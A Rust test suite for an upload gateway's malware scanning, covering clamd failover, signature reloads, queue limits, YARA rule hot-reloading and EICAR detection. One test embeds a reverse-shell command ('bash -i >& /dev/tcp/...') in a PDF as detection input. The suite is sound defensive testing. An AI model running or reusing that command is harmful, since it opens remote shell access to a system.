//! Who scans, what becomes of files when a scanner fails, and what is found.

use std::fs;
use std::thread;

use harness::gateway::{Builder, run_in};
use harness::http::{Answer, post};
use harness::sample;
use harness::{Clamd, Form, Gateway, Origin, SOON, policy, until};

/// Every rule there is, with this `scanner`.
fn scanned_by(origin: &Origin, scanner: &str) -> Builder {
    let text = policy::GUARDED.replace(
        "scanner: { backend: builtin, timeout: 5s, on_failure: deny }",
        &format!("scanner: {scanner}"),
    );
    assert!(text.contains(scanner));
    Gateway::builder().policy(text).env("APP", origin.address())
}

fn upload(gateway: &Gateway, file: &[u8]) -> Answer {
    let form = Form::of("a.pdf", "application/pdf", file).body();
    post("/upload").body(&Form::content_type(), form).send(gateway.address())
}

/// A PDF that says something.
fn pdf(text: &str) -> Vec<u8> {
    let mut file = sample::pdf();
    file.extend_from_slice(format!("% {text}\n").as_bytes());
    file
}

/// What the app was told of the only file of an upload that passed.
fn told(answer: &Answer, key: &str, value: &str) -> bool {
    answer.text().contains(&format!("\\\"{key}\\\":\\\"{value}\\\""))
}

#[test]
fn one_of_two_clamds_is_enough_and_without_both_nothing_passes() {
    let origin = Origin::echo();
    let (mut one, mut other) = (Clamd::start(), Clamd::start());
    let scanner = format!(
        "{{ backend: clamd, address: [\"{}\", \"{}\"], timeout: 6s, on_unscanned: deny }}",
        one.tcp(),
        other.unix()
    );
    let gateway = scanned_by(&origin, &scanner).start();
    let both = |gateway: &Gateway| {
        for n in 0..4 {
            assert!(told(upload(gateway, &pdf(&n.to_string())).is(200), "engine", "clamav"));
            upload(gateway, &sample::infected_pdf()).refused(422, "upload.infected");
        }
    };
    both(&gateway);
    one.kill();
    both(&gateway);
    one.restart();
    until("the first to be up again", SOON, || {
        (gateway.metric(&["menshen_scanner_up", &one.tcp()]) == 1.0).then_some(())
    });
    other.freeze();
    both(&gateway);
    assert!(gateway.ask("/").text().contains(&other.unix()), "the page for people names both");
    other.thaw();
    one.kill();
    other.kill();
    let before = origin.requests();
    for n in 0..3 {
        upload(&gateway, &pdf(&format!("{n} alone"))).refused(503, "scan.unavailable");
    }
    assert_eq!(origin.requests(), before, "nothing reached the app");
    assert_eq!(gateway.metric(&["menshen_scanner_up"]), 0.0);
}

#[test]
fn new_signatures_find_what_was_clean_before() {
    let origin = Origin::echo();
    let mut clamd = Clamd::start();
    let scanner = format!("{{ backend: clamd, address: \"{}\", timeout: 10s }}", clamd.tcp());
    let gateway = scanned_by(&origin, &scanner).start();
    for (text, restart) in [("taken up while it runs", false), ("taken up by a restart", true)] {
        let file = pdf(text);
        for _ in 0..3 {
            upload(&gateway, &file).is(200);
        }
        clamd.add_signature(if restart { "Second" } else { "First" }, text.as_bytes());
        if restart {
            clamd.kill();
            clamd.restart();
        } else {
            clamd.reload(text.as_bytes());
        }
        let before = origin.requests();
        upload(&gateway, &file).refused(422, "upload.infected");
        assert_eq!(origin.requests(), before);
    }
}

#[test]
fn a_file_over_clamds_stream_limit_was_not_scanned() {
    let origin = Origin::echo();
    let clamd = Clamd::builder().setting("StreamMaxLength", "100K").start();
    let file = [sample::pdf(), vec![b'%'; 900_000]].concat();
    for (key, expected) in [("deny", 422), ("allow", 200)] {
        let scanner = format!(
            "{{ backend: clamd, address: \"{}\", timeout: 10s, on_failure: deny, on_unscanned: {key} }}",
            clamd.unix()
        );
        let gateway = scanned_by(&origin, &scanner).start();
        upload(&gateway, &sample::pdf()).is(200);
        let before = origin.requests();
        let answer = upload(&gateway, &file);
        if expected == 200 {
            assert!(told(answer.is(200), "scan", "not_scanned"));
        } else {
            answer.refused(422, "upload.content_denied");
            assert_eq!(origin.requests(), before);
        }
        assert!(gateway.metric(&["menshen_scan_failures_total", "clamav"]) >= 1.0);
    }
}

#[test]
fn a_frozen_clamd_is_what_the_policy_says_it_is() {
    let origin = Origin::echo();
    let clamd = Clamd::start();
    let scanner =
        |keys: &str| format!("{{ backend: clamd, address: \"{}\", timeout: 1s, {keys} }}", clamd.tcp());
    let strict = scanned_by(&origin, &scanner("on_failure: allow, on_unscanned: deny")).start();
    let lenient = scanned_by(&origin, &scanner("on_failure: deny, on_unscanned: allow")).start();
    clamd.freeze();
    upload(&strict, &sample::pdf()).refused(503, "scan.unavailable");
    assert_eq!(origin.requests(), 0);
    assert!(told(upload(&lenient, &sample::pdf()).is(200), "scan", "not_scanned"));
    clamd.thaw();
    until("files to be scanned again", SOON, || {
        (upload(&strict, &sample::infected_pdf()).status == 422).then_some(())
    });
}

#[test]
fn scans_beyond_the_queue_are_told_to_come_back() {
    let origin = Origin::echo();
    let clamd = Clamd::start();
    let scanner = format!(
        "{{ backend: clamd, address: \"{}\", timeout: 3s, max_concurrent: 1, max_queue: 0, \
         on_failure: allow, on_unscanned: allow }}",
        clamd.tcp()
    );
    let gateway = scanned_by(&origin, &scanner).start();
    clamd.freeze();
    let answers: Vec<Answer> = thread::scope(|scope| {
        let sent: Vec<_> = (0..4)
            .map(|n| {
                scope.spawn({
                    let gateway = &gateway;
                    move || upload(gateway, &pdf(&n.to_string()))
                })
            })
            .collect();
        sent.into_iter().map(|sent| sent.join().unwrap()).collect()
    });
    let refused: Vec<_> = answers.iter().filter(|answer| answer.status == 503).collect();
    assert!(!refused.is_empty(), "a queue that anybody can fill does not open the door");
    for answer in refused {
        answer.refused(503, "scan.unavailable");
        assert!(answer.must("retry-after").parse::<u64>().unwrap() > 0);
    }
}

#[test]
fn a_clamd_with_few_threads_lets_nothing_infected_pass() {
    let origin = Origin::echo();
    let clamd = Clamd::builder().setting("MaxThreads", "1").setting("MaxQueue", "2").start();
    let scanner = format!(
        "{{ backend: clamd, address: \"{}\", timeout: 10s, max_concurrent: 40, on_failure: deny, on_unscanned: deny }}",
        clamd.tcp()
    );
    let gateway = scanned_by(&origin, &scanner).start();
    let statuses: Vec<u16> = thread::scope(|scope| {
        let sent: Vec<_> = (0..40)
            .map(|n| {
                let gateway = &gateway;
                let mut file = sample::infected_pdf();
                file.extend_from_slice(format!("% {n}\n").as_bytes());
                scope.spawn(move || upload(gateway, &file).status)
            })
            .collect();
        sent.into_iter().map(|sent| sent.join().unwrap()).collect()
    });
    assert!(statuses.iter().all(|status| [422, 503].contains(status)), "{statuses:?}");
    assert_eq!(origin.requests(), 0);
    until("a file to be scanned", SOON, || (upload(&gateway, &sample::pdf()).status == 200).then_some(()));
}

#[test]
fn two_scanners_must_both_find_a_file_clean() {
    let origin = Origin::echo();
    let mut clamd = Clamd::start();
    clamd.add_signature("Only.Clamd", b"known to clamd alone");
    clamd.reload(b"known to clamd alone");
    let text = policy::GUARDED.replace(
        "scanner: { backend: builtin, timeout: 5s, on_failure: deny }",
        &format!(
            "scanner: {{ backend: [clamd, builtin], address: \"{}\", on_failure: allow, timeout: 5s }}",
            clamd.tcp()
        ),
    );
    let gateway = Gateway::builder().policy(text).env("APP", origin.address()).start();
    assert!(told(upload(&gateway, &sample::pdf()).is(200), "engine", "clamav+builtin"));
    upload(&gateway, &pdf("known to clamd alone")).refused(422, "upload.infected");
    upload(&gateway, &pdf("bash -i >& /dev/tcp/192.0.2.1/4444")).refused(422, "upload.infected");
    clamd.kill();
    assert!(told(upload(&gateway, &pdf("other")).is(200), "scan", "failed"), "by on_failure: allow");
    upload(&gateway, &sample::infected_pdf()).refused(422, "upload.infected");
    assert!(gateway.metric(&["menshen_scan_duration_seconds_count", "builtin"]) >= 4.0);
}

#[test]
fn rules_and_lists_are_taken_up_while_it_runs() {
    let origin = Origin::echo();
    let builder = scanned_by(
        &origin,
        "{ backend: builtin, rules: \"${DIR}/rules\", blocklist: \"${DIR}/bad.txt\", timeout: 10s }",
    );
    let folder = builder.folder().to_owned();
    fs::create_dir(folder.join("rules")).unwrap();
    fs::write(folder.join("rules/one.yar"), "rule One { strings: $a = \"the first\" condition: $a }\n")
        .unwrap();
    fs::write(folder.join("bad.txt"), "# nothing yet\n").unwrap();
    let gateway = builder.start();
    upload(&gateway, &pdf("the first")).refused(422, "upload.infected");
    let (second, listed) = (pdf("the second"), pdf("on the list"));
    upload(&gateway, &second).is(200);
    upload(&gateway, &listed).is(200);

    fs::write(folder.join("rules/two.yara"), "rule Two { strings: $a = \"the second\" condition: $a }\n")
        .unwrap();
    until("the new rule to count", SOON, || (upload(&gateway, &second).status == 422).then_some(()));
    upload(&gateway, &listed).is(200);
    fs::write(folder.join("bad.txt"), format!("# bad\n{}  a.pdf\n", sample::sha256(&listed))).unwrap();
    until("the list to count", SOON, || (upload(&gateway, &listed).status == 422).then_some(()));

    fs::write(folder.join("rules/two.yara"), "rule Two {\n  condition: $b\n}\n").unwrap();
    until("the fault to be told", SOON, || {
        gateway.error_log().contains("two.yara:2:14: scanner.rules").then_some(())
    });
    upload(&gateway, &second).refused(422, "upload.infected");
    fs::write(folder.join("bad.txt"), "not a sum\n").unwrap();
    fs::write(folder.join("rules/two.yara"), "rule Two { condition: false }\n").unwrap();
    until("the bad line to be told", SOON, || {
        gateway.error_log().contains("bad.txt\":1:1: scanner.blocklist").then_some(())
    });
    upload(&gateway, &listed).refused(422, "upload.infected");
}

#[test]
fn check_tells_the_place_of_a_fault_in_a_rule() {
    let folder = tempfile::tempdir().unwrap();
    let text = "version: 1\nlisteners: [{ address: \"127.0.0.1:0\" }]\nscanner: { backend: builtin, rules: rules }\n\
                sites: [{ hosts: [\"*\"], routes: [{ path: /, auth: none, respond: { status: 204 } }] }]\n";
    fs::write(folder.path().join("p.yaml"), text).unwrap();
    fs::create_dir(folder.path().join("rules")).unwrap();
    fs::write(folder.path().join("rules/a.yar"), "rule A { condition: true }\nrule A { condition: true }\n")
        .unwrap();
    let checked = run_in(folder.path(), &["check", "p.yaml"]);
    assert_eq!(checked.code, 1);
    let told = format!("{}{}", checked.stdout, checked.stderr);
    assert!(told.contains("rules/a.yar:2:6: scanner.rules: "), "{told}");
    fs::write(folder.path().join("rules/a.yar"), "rule A { condition: true }\n").unwrap();
    assert_eq!(run_in(folder.path(), &["check", "p.yaml"]).code, 0);
}

#[test]
fn a_large_file_that_clamd_gets_while_it_arrives_has_its_own_verdict_and_sum() {
    let origin = Origin::echo();
    let clamd = Clamd::start();
    let scanner = format!("{{ backend: clamd, address: \"{}\", timeout: 20s }}", clamd.tcp());
    let gateway = scanned_by(&origin, &scanner).start();
    let film = sample::mp4_of(6 << 20);
    let send = |first: &[u8], second: &[u8]| {
        let form = Form::of("a.mp4", "video/mp4", first).file("file", "b.mp4", "video/mp4", second).body();
        post("/upload").body(&Form::content_type(), form).send(gateway.address())
    };
    let infected = |at: usize| [&film[..at], &sample::eicar(), &film[at..]].concat();
    for at in [film.len(), film.len() / 2] {
        send(&film, &infected(at)).refused(422, "upload.infected");
        send(&infected(at), &film).refused(422, "upload.infected");
    }
    assert_eq!(origin.requests(), 0, "nothing reached the app");
    let answer = send(&film, &infected(0)[sample::eicar().len()..]);
    assert!(told(answer.is(200), "sha256", &sample::sha256(&film)) && told(&answer, "scan", "clean"));
    let other = sample::mp4_of((5 << 20) + 7);
    let answer = send(&other, &film);
    for file in [&other, &film] {
        assert!(told(answer.is(200), "sha256", &sample::sha256(file)), "{answer:?}");
    }
}
